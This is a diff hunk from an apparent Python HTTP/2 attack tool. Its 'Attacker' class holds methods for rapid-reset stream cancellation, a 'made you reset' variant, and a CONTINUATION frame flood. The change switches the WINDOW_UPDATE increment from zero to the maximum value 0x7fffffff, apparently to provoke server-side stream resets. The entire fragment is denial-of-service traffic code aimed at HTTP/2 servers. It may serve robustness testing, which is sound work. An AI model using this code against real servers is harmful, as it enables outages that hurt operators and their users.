@@ -220,7 +220,7 @@ class Attacker:
         await self.streams(b"", lambda n: (b"".join(get(i) + frame(RST, 0, i, CANCEL) for i in range(n, n + 20, 2)), 10))
 
     async def t2_made_you_reset(self):
-        await self.streams(b"", lambda n: (b"".join(get(i) + frame(WINDOW, 0, i, b"\0\0\0\0") for i in range(n, n + 20, 2)), 10))
+        await self.streams(b"", lambda n: (b"".join(get(i) + frame(WINDOW, 0, i, b"\x7f\xff\xff\xff") for i in range(n, n + 20, 2)), 10))
 
     async def t3_continuations(self):
         await self.streams(frame(HEADERS, 0, 1, HEAD), lambda n: (frame(CONTINUATION, 0, 1, b"\0\1a\1b") * 20, 0))
